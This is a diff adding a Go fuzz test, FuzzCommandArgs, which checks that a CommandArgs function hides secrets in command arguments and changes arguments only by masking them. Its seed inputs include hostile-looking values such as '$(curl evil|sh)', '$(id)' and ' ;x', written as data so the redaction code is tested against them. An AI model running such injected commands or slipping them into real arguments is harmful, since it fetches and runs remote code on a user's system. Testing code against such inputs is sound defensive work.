@@ -63,3 +63,27 @@ func FuzzArgs(f *testing.F) {
 		}
 	})
 }
+
+// FuzzCommandArgs: CommandArgs never panics, keeps one word per argument,
+// never lets a known secret through, and changes an argument only by
+// marking what it hides.
+func FuzzCommandArgs(f *testing.F) {
+	f.Add("--api-key=", "planted-secret-5", " ;x")
+	f.Add("-c", "sk-000000", "$(curl evil|sh)")
+	f.Add("https://u:", "pw-123456", "@h/?token=$(id)")
+	f.Fuzz(func(t *testing.T, before, secret, after string) {
+		args := []string{before, before + secret + after, after}
+		got := CommandArgs(args, secret)
+		if len(got) != len(args) {
+			t.Fatalf("CommandArgs(%q) = %q: %d words for %d", args, got, len(got), len(args))
+		}
+		for i, w := range got {
+			if len(secret) >= MinSecretLen && strings.Contains(w, secret) {
+				t.Fatalf("CommandArgs(%q)[%d] = %q still holds the secret", args, i, w)
+			}
+			if w != args[i] && !strings.Contains(w, Placeholder) && !strings.Contains(w, "***") {
+				t.Fatalf("CommandArgs(%q)[%d] = %q changed without a mark", args, i, w)
+			}
+		}
+	})
+}
